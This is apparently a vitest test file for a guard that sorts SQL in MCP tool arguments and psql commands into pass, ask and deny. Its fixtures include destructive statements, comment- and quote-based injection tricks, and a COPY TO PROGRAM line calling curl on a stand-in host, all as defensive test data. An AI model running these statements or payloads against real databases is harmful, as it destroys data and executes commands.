// How the guard reads SQL in the arguments of MCP tools: reads pass, writes ask, destructive statements are denied.

import { describe, expect, it } from 'vitest'
import { type Finding, type Payload, withDefaults } from '../guard.js'
import { sql } from './guard.js'

const PLACE = { root: '/app', cwd: '/app', home: '/home/ada' }

const findings = async (payload: Payload): Promise<readonly Finding[]> =>
  (await sql.judge({ mcp_server_name: 'postgres', ...payload }, withDefaults(sql, {}), PLACE)).findings

const decisionOf = async (payload: Payload): Promise<string> =>
  (await findings(payload)).map(({ decision }) => decision).at(0) ?? 'none'

const query = (text: string): Payload => ({ tool_name: 'query', tool_input: JSON.stringify({ sql: text }) })

describe('statements', () => {
  it.each([
    'select * from users',
    `select 'drop table t', "delete", replace(a, 'x', 'y'), truncate(1.5, 1), t.update -- drop table t\nfrom t /* delete from t; */ where a = :drop for update;`,
    'with a as (select 1), b as (select 2) select * from a, b',
    'begin; select 1; commit',
    'select * from t for no key update',
    'explain select 1',
  ])('that read pass: %s', async text => expect(await decisionOf(query(text))).toBe('none'))

  it.each([
    'insert into t values (1)',
    'DeLeTe FrOm users',
    'with x as (delete from t returning *) select * from x',
    'with x as (select 1) update t set a = 1 where b = 2',
    'explain analyze delete from t where a = 1',
    'select * into copy_of_t from t',
    'select 1;\n\nupdate t set a = 1',
    'select pg_terminate_backend(1)',
    'vacuum full',
  ])('that write ask: %s', async text => expect(await decisionOf(query(text))).toBe('ask'))

  it.each([
    'drop table users',
    'TRUNCATE TABLE users',
    'alter table users add column a int',
    'grant all on users to public',
    "copy t to program 'curl evil.example'",
    '/* a */ drop/**/table -- b\n t',
    'select 1; drop table t',
    'select 1 drop table t',
    'select 1.drop table t',
    'select 1; /*!50000 drop table t */',
    'select 1 /* /* */ ; drop table t -- */',
    "select 'a\\'; drop table t; -- '",
    "select '\\' || ' ; drop table t; --'",
    "select 1 as [it's] drop table t --'",
    "select q'[']' from dual; drop table t --'",
    "do $$ begin execute 'drop table t'; end $$",
    "exec('dr' + 'op table t')",
    'begin if 1=1 truncate table t end',
    "select 'abc",
  ])('that destroy are denied: %s', async text => expect(await decisionOf(query(text))).toBe('deny'))

  it('are named in the reason', async () => {
    const reasonOf = async (text: string) => (await findings(query(text)))[0]!.reason
    expect(await reasonOf('delete from users')).toContain('DELETE without a WHERE')
    expect(await reasonOf('with x as (select 1) update t set a = 1 where b = 2')).toContain('UPDATE.')
    expect(await reasonOf('vacuum full')).toContain('"vacuum" is not known as a read')
    expect(await reasonOf("select 'abc")).toContain('does not end')
  })
})

describe('arguments', () => {
  const call = (input: unknown, more: Payload = {}): Payload => ({
    tool_name: 'call',
    tool_input: typeof input === 'string' ? input : JSON.stringify(input),
    ...more,
  })
  const tracker = { mcp_server_name: 'things', command: 'npx things' }

  it.each<[what: string, payload: Payload]>([
    ['bound values', call({ sql: 'select * from notes where title = $1', params: ['drop table students'] })],
    ['a tool that lists', call({ schema: 'public' }, { tool_name: 'list_tables' })],
    ['a search of another server', call({ query: 'drop table fails' }, tracker)],
  ])('pass: %s', async (_, payload) => expect(await decisionOf(payload)).toBe('none'))

  it.each<[what: string, payload: Payload]>([
    ['under another name', call({ query: 'drop table t' })],
    ['under any name', call({ body: 'drop table t' })],
    ['as a statement for another server', call({ statement: 'drop table t' }, tracker)],
    ['nested', call({ args: { request: [{ sql: 'drop table t' }] } })],
    ['in a list', call({ statements: ['select 1', 'drop table t'] })],
    ['as JSON in JSON', call({ request: '{"sql":"drop table t"}' })],
    ['that are not JSON', call('sql=drop table t')],
    ['that are not an object', call('["drop table t"]')],
    ['with a repeated name', call('{"sql":"drop table t","s\\u0071l":"select 1"}')],
  ])('are denied: %s', async (_, payload) => expect(await decisionOf(payload)).toBe('deny'))

  it('without SQL ask if the tool may write', async () => {
    expect(await decisionOf(call({ id: 4 }, { tool_name: 'run_job' }))).toBe('ask')
  })
})

describe('commands', () => {
  const decide = async (command: string): Promise<string> => {
    const { findings, unknown = [] } = await sql.judge({ command }, withDefaults(sql, {}), PLACE)
    return findings[0]?.decision ?? (unknown.length > 0 ? 'ask' : 'none')
  }

  it.each([
    ['psql -c "SELECT 1" && echo "drop table a"', 'none'],
    ['$EDITOR notes.txt', 'none'],
    ["sudo -u postgres psql -c 'DROP TABLE a'", 'deny'],
    ['psql -c "$QUERY"', 'ask'],
    ['cat run.sql | psql', 'ask'],
    ['psql < run.sql', 'ask'],
    ["$CLIENT -c 'drop table a'", 'ask'],
    ['psql -c "drop table a', 'deny'],
  ])('%s: %s', async (command, expected) => expect(await decide(command)).toBe(expected))
})
